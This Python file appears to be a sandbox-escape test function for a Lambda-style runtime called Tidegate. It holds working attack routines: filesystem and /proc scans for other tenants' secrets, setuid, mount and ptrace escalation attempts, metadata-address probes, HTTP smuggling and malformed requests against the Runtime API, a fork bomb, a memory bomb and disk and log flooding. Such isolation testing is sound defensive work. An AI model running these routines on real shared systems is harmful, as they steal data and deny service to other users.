"""A function that attacks what it runs on, as its event tells it to.

Every attack returns a list of what it could do and must not be able to.
"""

import ctypes
import hashlib
import json
import os
import re
import resource
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time

# What the tests hide in places that are not this function's. It is put together here so
# that the search does not find itself.
TREASURE = re.compile(b"hidden-" + b"treasure-[0-9a-f]+")

API = os.environ["AWS_LAMBDA_RUNTIME_API"]
# The way of Tidegate's own bootstraps to it, where there is one.
LOCAL_API = "/var/runtime-api"
INVOCATION = "/2018-06-01/runtime/invocation/"


def handler(event, context):
    return ATTACKS[event["attack"]](event, context)


# --- Files -------------------------------------------------------------------


def search(event, context):
    """Reads every file there is to be read, and looks for what others hide."""
    possible = set()
    visited = 0
    for folder, folders, files in os.walk("/", onerror=lambda _: None):
        if folder in ("/usr", "/nix", "/gnu", "/lib", "/proc/sys"):
            folders.clear()
            continue
        for name in files:
            path = os.path.join(folder, name)
            if re.match(r"/proc/(.*/)?(kmsg|pagemap|clear_refs|mem)$", path):
                continue
            try:
                with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as f:
                    text = f.read(1 << 20)
            except OSError:
                continue
            visited += 1
            if TREASURE.search(text) and "/var/task" not in folder:
                possible.add("find a treasure in " + path)
    for path in event["paths"]:
        for place in (path, "/proc/1/root" + path, "/var/task/../.." + path, "/proc/self/cwd/../.." + path):
            try:
                found = os.listdir(place) if os.path.isdir(place) else open(place, "rb").read()
                possible.add("read %s: %.40r" % (place, found))
            except OSError:
                pass
    for pid in event["pids"]:
        for name in ("environ", "mem", "maps", "root", "cwd", "fd"):
            try:
                os.stat("/proc/%d" % pid)
                with open("/proc/%d/%s" % (pid, name), "rb") as f:
                    f.read(1)
                possible.add("read %s of process %d" % (name, pid))
            except OSError:
                pass
    if visited < 50:
        possible.add("nothing: the search has read %d files only" % visited)
    return sorted(possible)


def become(event, context):
    """Becomes somebody else, or more than it is."""
    possible = []

    def attempt(what, f, *arguments):
        try:
            f(*arguments)
            possible.append(what)
        except (OSError, ValueError):
            pass

    libc = ctypes.CDLL(None, use_errno=True)

    def call(function, *arguments):
        if getattr(libc, function)(*arguments) < 0:
            raise OSError(ctypes.get_errno(), function)

    attempt("become root", os.setuid, 0)
    attempt("become the group root", os.setgid, 0)
    attempt("become its neighbour", os.setuid, os.getuid() + 1)
    attempt("join groups", os.setgroups, [0, 6])
    attempt("mount", call, "mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None)
    attempt("bind", call, "mount", b"/", b"/tmp", b"", 4096, None)
    attempt("unmount", call, "umount2", b"/var/task", 2)
    attempt("make a namespace", call, "unshare", 0x10000000)
    attempt("trace", call, "ptrace", 16, 1, 0, 0)
    attempt("make a device", os.mknod, "/tmp/disk", 0o60666, os.makedev(8, 0))
    attempt("make a memory device", os.mknod, "/tmp/mem", 0o20666, os.makedev(1, 1))
    attempt("change the root", os.chroot, "/tmp")
    attempt("have more files", resource.setrlimit, resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    attempt("be more important", os.nice, -1)
    attempt("be spared", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))
    for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/net/tun", "/dev/kvm", "/dev/fuse", "/dev/ptmx", "/dev/shm/x"):
        attempt("open " + path, os.open, path, os.O_RDWR)
    attempt("remove the Runtime API's socket", os.remove, LOCAL_API)
    attempt("put another into its place", os.rename, "/tmp", LOCAL_API)
    for path in ("/x", "/dev/x", "/etc/x", "/var/x", "/var/task/x", "/opt/x", "/var/runtime/x", "/proc/sys/kernel/core_pattern", "/usr/x"):
        attempt("write " + path, os.open, path, os.O_WRONLY | os.O_CREAT)
    # A program that changes the user is an ordinary one.
    with open("/tmp/su", "wb") as f:
        f.write(open("/bin/true", "rb").read())
    os.chmod("/tmp/su", 0o6777)
    if b"Uid:\t0" in subprocess.run(["/usr/bin/grep", "Uid", "/proc/self/status"], capture_output=True).stdout:
        possible.append("be root")
    return possible


# --- Network -----------------------------------------------------------------


def connect(event, context):
    """Connects to what is not for functions."""
    possible = []
    for address in event["addresses"]:
        host, _, port = address.rpartition(":")
        host = host.strip("[]")
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect((host, int(port)))
            # A connection alone can be the gateway's, which then finds nobody.
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            answer = s.recv(100)
            if answer:
                possible.append("talk to %s: %r" % (address, answer))
        except OSError:
            pass
        finally:
            s.close()
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(0.3)
        try:
            s.connect((host, int(port)))
            s.send(b"tidegate")
            possible.append("talk to %s: %r" % (address, s.recv(100)))
        except OSError:
            pass
        finally:
            s.close()
    return possible


def ask(event, context):
    """Sends a request, as functions do, and returns the status."""
    import urllib.error
    import urllib.request

    request = urllib.request.Request(event["url"], headers={"Authorization": "Bearer " + os.environ.get("TIDEGATE_TOKEN", "")})
    try:
        return urllib.request.urlopen(request, timeout=5).status
    except urllib.error.HTTPError as e:
        return e.code
    except OSError as e:
        return str(e)


def listen(event, context):
    """Leaves sockets listening, in a process that stays."""
    for port in event["ports"]:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", port))
        s.listen()
        os.set_inheritable(s.fileno(), True)
    stay(event, context)
    return []


# --- The Runtime API ---------------------------------------------------------


def over_tcp(timeout):
    host, _, port = API.rpartition(":")
    return socket.create_connection((host, int(port)), timeout)


def over_socket(timeout):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(timeout)
    s.connect(LOCAL_API)
    return s


def is_socket(path):
    return os.path.exists(path) and stat.S_ISSOCK(os.stat(path).st_mode)


WAYS = [over_tcp, over_socket] if is_socket(LOCAL_API) else [over_tcp]


def exchange(method, path, body=b"", timeout=5, way=over_tcp):
    """Sends a request to the Runtime API beside the runtime's own connection."""
    with way(timeout) as s:
        head = "%s %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (method, path, len(body))
        s.sendall(head.encode() + body)
        answer = b""
        while True:
            more = s.recv(65536)
            if not more:
                break
            answer += more
    head, _, body = answer.partition(b"\r\n\r\n")
    return Reply(int(answer.split()[1]) if answer else 0, head.decode("latin1").lower(), body)


class Reply:
    def __init__(self, status, head, body):
        self.status, self.head, self.body = status, head, body


def answer_twice(event, context):
    """Answers, and then returns something else, and answers once more later."""
    own = INVOCATION + context.aws_request_id
    ways = [WAYS[-1]] + WAYS
    statuses = [exchange("POST", own + "/response", b'"first"' if n == 0 else b'"second"', way=way).status for n, way in enumerate(ways)]
    if statuses[0] // 100 != 2 or any(status // 100 == 2 for status in statuses[1:]):
        raise SystemExit("a second answer was accepted: %r" % statuses)
    return "third"


def answer_for_others(event, context):
    """Answers for requests that are not its own."""
    possible = []
    for request in event["requests"] + ["x" * 36, "../../next", "%2e%2e", "", "'"]:
        for what in ("response", "error"):
            for way in WAYS:
                status = exchange("POST", INVOCATION + request + "/" + what, b'"mine now"', way=way).status
                if status // 100 == 2:
                    possible.append("answer %s/%s %s: %d" % (request, what, way.__name__, status))
    return possible


def ask_for_more(event, context):
    """Asks for the next event while it has one, on many connections. It is given the one
    it has, whose connection may have broken."""
    taken = []

    def ask(way):
        try:
            reply = exchange("GET", INVOCATION + "next", timeout=2, way=way)
            if reply.status == 200 and context.aws_request_id not in reply.head:
                taken.append("have another event: " + reply.head)
        except OSError:
            pass

    threads = [threading.Thread(target=ask, args=(WAYS[n % len(WAYS)],)) for n in range(50)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return taken


def garbage(event, context):
    """Sends what is no request."""
    host, _, port = API.rpartition(":")
    for text in (
        b"\x00" * 4096,
        b"GET",
        b"GET / HTTP/9.9\r\n\r\n",
        b"POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\nContent-Length: -1\r\n\r\n",
        b"POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n",
        b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
        b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /",
        b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 100000,
        b"GET /" + b"a" * 1000000 + b" HTTP/1.1\r\n\r\n",
        os.urandom(1 << 20),
    ):
        try:
            with socket.create_connection((host, int(port)), 2) as s:
                s.settimeout(2)
                s.sendall(text)
                s.shutdown(socket.SHUT_WR)
                while s.recv(65536):
                    pass
        except OSError:
            pass
    return []


def many_connections(event, context):
    """Opens as many connections to its Runtime API as it can, and says little on each."""
    host, _, port = API.rpartition(":")
    children = []
    for _ in range(event["children"]):
        child = os.fork()
        if child:
            children.append(child)
            continue
        try:
            kept = []
            for _ in range(900):
                s = socket.socket()
                s.setblocking(False)
                s.connect_ex((host, int(port)))
                kept.append(s)
            for n in range(20):
                for s in kept:
                    try:
                        s.send(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nX: "[n : n + 1])
                    except OSError:
                        pass
                time.sleep(0.1)
        finally:
            os._exit(0)
    for child in children:
        os.waitpid(child, 0)
    return []


def huge_answer(event, context):
    """Answers with more than it has memory for."""
    host, _, port = API.rpartition(":")
    size = 1 << 30
    with socket.create_connection((host, int(port)), 30) as s:
        head = "POST %s%s/response HTTP/1.1\r\nHost: x\r\n" % (INVOCATION, context.aws_request_id)
        if event["chunked"]:
            s.sendall((head + "Transfer-Encoding: chunked\r\n\r\n").encode())
            block = b"100000\r\n" + b"x" * (1 << 20) + b"\r\n"
        else:
            s.sendall((head + "Content-Length: %d\r\n\r\n" % size).encode())
            block = b"x" * (1 << 20)
        try:
            for _ in range(1024):
                s.sendall(block)
        except OSError:
            pass
    return "and then it returned"


def by_many(event, attack):
    """Has processes attack until the time is over."""
    end = time.monotonic() + event["seconds"]
    children = []
    for _ in range(event.get("children", 8)):
        child = os.fork()
        if child:
            children.append(child)
            continue
        try:
            while time.monotonic() < end:
                try:
                    attack(end)
                except OSError:
                    pass
        finally:
            os._exit(0)
    for child in children:
        os.waitpid(child, 0)
    return []


def send_many(event, requests):
    """Sends requests on many connections, and reads what comes back."""
    host, _, port = API.rpartition(":")

    def attack(end):
        with socket.create_connection((host, int(port)), 5) as s:
            s.setblocking(False)
            left = b""
            while time.monotonic() < end:
                ready = select.select([s], [s], [], 1)
                if ready[0] and not s.recv(1 << 20):
                    return
                if ready[1]:
                    left = left or requests
                    left = left[s.send(left) :]

    return by_many(event, attack)


def refused_requests(event, context):
    """Sends what is refused, hundreds at once, on many connections."""
    return send_many(
        event,
        (b"GET /none HTTP/1.1\r\nHost: x\r\n\r\n" + b"POST %sx/response HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\nx" % INVOCATION.encode()) * 300,
    )


def same_event(event, context):
    """Asks for the event that it has, again and again."""
    return send_many(event, b"GET %snext HTTP/1.1\r\nHost: x\r\n\r\n" % INVOCATION.encode() * 300)


def end(event, context):
    """Ends itself."""
    os._exit(1)


def short_connections(event, context):
    """Opens connections to its Runtime API, and closes them at once."""
    host, _, port = API.rpartition(":")
    linger = struct.pack("ii", 1, 0)

    def attack(end):
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            s.settimeout(1)
            s.connect((host, int(port)))

    return by_many(event, attack)


def large_heads(event, context):
    """Begins requests with a megabyte of header on as many connections as are served, and
    ends none."""
    host, _, port = API.rpartition(":")
    kept = []
    for _ in range(80):
        s = socket.create_connection((host, int(port)), 5)
        s.settimeout(0.5)
        kept.append(s)
        try:
            s.sendall(b"GET /none HTTP/1.1\r\nHost: x\r\nX: " + b"x" * (1 << 20))
        except OSError:
            pass
    return []


def large_registrations(event, context):
    """Sends megabytes to what takes little, on many connections, and ends none."""
    host, _, port = API.rpartition(":")
    kept = []
    for n in range(60):
        s = socket.create_connection((host, int(port)), 5)
        s.settimeout(0.5)
        kept.append(s)
        try:
            s.sendall(b"POST /2020-01-01/extension/register HTTP/1.1\r\nHost: x\r\nLambda-Extension-Name: x\r\n")
            s.sendall(b"Transfer-Encoding: chunked\r\n\r\n500000\r\n" if n % 2 else b"Content-Length: 5242880\r\n\r\n")
            s.sendall(b"x" * (5 << 20))
        except OSError:
            pass
    return []


def byte_by_byte(event, context):
    """Answers in chunks of one byte each, as many as an answer may have."""
    host, _, port = API.rpartition(":")
    size = event["bytes"]
    with socket.create_connection((host, int(port)), 60) as s:
        head = "POST %s%s/response HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" % (INVOCATION, context.aws_request_id)
        s.sendall(head.encode())
        s.sendall(b'1\r\n"\r\n' + b"1\r\nx\r\n" * size + b'1\r\n"\r\n0\r\n\r\n')
        s.recv(1000)
    return "and then it returned"


def broken_answers(event, context):
    """Breaks answers off before their end, again and again."""
    host, _, port = API.rpartition(":")
    part = b"x" * (5 << 20)

    def attack(end):
        with socket.create_connection((host, int(port)), 5) as s:
            head = "POST %s%s/response HTTP/1.1\r\nHost: x\r\nContent-Length: 6000000\r\n\r\n" % (INVOCATION, context.aws_request_id)
            s.sendall(head.encode() + part)

    return by_many(event, attack)


def large_answer(event, context):
    """Answers with as much as it may. That is no attack, but work."""
    return "x" * (6 << 20)


def never(event, context):
    threading.Event().wait()


# --- Processes and resources -------------------------------------------------


def stay(event, context):
    """Leaves a process that has nothing of this one's, and ignores what it can."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in range(1, 65):
                try:
                    signal.signal(s, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            null = os.open(os.devnull, os.O_RDWR)
            for fd in range(3):
                os.dup2(null, fd)
            os.execve(sys.executable, [sys.executable, "-c", "import time\nwhile True: time.sleep(1)", event["name"]], {})
        os._exit(0)
    os.wait()
    return []


def links(event, context):
    """Leaves links in /tmp that lead to where somebody else might write or remove."""
    for n, target in enumerate(event["targets"] + ["/proc/1/root", "/proc/self/root", "/etc/passwd", "/var/task", "../../..", "/dev/null"]):
        os.symlink(target, "/tmp/link%d" % n)
    os.mkdir("/tmp/deep")
    os.chmod("/tmp/deep", 0)
    os.mkfifo("/tmp/fifo")
    return []


def tmp(event, context):
    """Tells what is in /tmp, and where its parts are the same as another's."""
    return os.listdir("/tmp")


def fork_bomb(event, context):
    end = time.monotonic() + event["seconds"]
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            pass
    os._exit(1)


def memory_bomb(event, context):
    kept = []
    while True:
        kept.append(bytearray(8 << 20))


def fill_disk(event, context):
    block = b"x" * (1 << 20)
    end = time.monotonic() + event["seconds"]
    while time.monotonic() < end:
        with open("/tmp/full", "wb", buffering=0) as f:
            try:
                while time.monotonic() < end:
                    f.write(block)
                    os.fsync(f.fileno())
                    os.sync()
            except OSError:
                pass
    return []


def flood(event, context):
    line = b"x" * 4095 + b"\n"
    end = time.monotonic() + event["seconds"]
    while time.monotonic() < end:
        for fd in (1, 2):
            os.write(fd, line * 16)
    return []


def empty_lines(event, context):
    """Has the log do something for every byte."""
    lines = b"\n" * 65536
    end = time.monotonic() + event["seconds"]
    while time.monotonic() < end:
        os.write(1, lines)
    return []


def packets(event, context):
    """Sends what the network refuses, in small packets."""

    def attack(end):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            while time.monotonic() < end:
                for port in range(1, 1000):
                    try:
                        s.sendto(b"x", ("169.254.169.254", port))
                    except OSError:
                        pass

    return by_many(event, attack)


def refused_connections(event, context):
    """Connects to where the network refuses to lead."""

    def attack(end):
        with socket.socket() as s:
            s.settimeout(1)
            s.connect(("169.254.169.254", 80))

    return by_many(event, attack)


def threads(event, context):
    """Computes on as many threads as there may be."""
    end = time.monotonic() + event["seconds"]

    def compute():
        while time.monotonic() < end:
            hashlib.pbkdf2_hmac("sha256", b"x", b"x", 10000)  # without the interpreter's lock

    all = []
    try:
        for _ in range(2000):
            t = threading.Thread(target=compute, daemon=True)
            t.start()
            all.append(t)
    except RuntimeError:
        pass
    for t in all:
        t.join()
    return []


def spin(event, context):
    """Computes on as many threads as there may be, each in a process of its own."""
    end = time.monotonic() + event["seconds"]
    for _ in range(event.get("children", 64)):
        if os.fork() == 0:
            while time.monotonic() < end:
                pass
            os._exit(0)
    while time.monotonic() < end:
        pass
    return []


def calls(event, context):
    """Keeps the kernel busy."""
    end = time.monotonic() + event["seconds"]
    for _ in range(16):
        if os.fork() == 0:
            while time.monotonic() < end:
                for n in range(1000):
                    os.pipe2(os.O_CLOEXEC)
                    os.closerange(3, 2000)
                    try:
                        os.open("/tmp/x", os.O_CREAT | os.O_RDWR)
                        os.unlink("/tmp/x")
                    except OSError:
                        pass
            os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.05)
    return []


ATTACKS = {name: f for name, f in globals().items() if callable(f) and getattr(f, "__module__", None) == __name__}
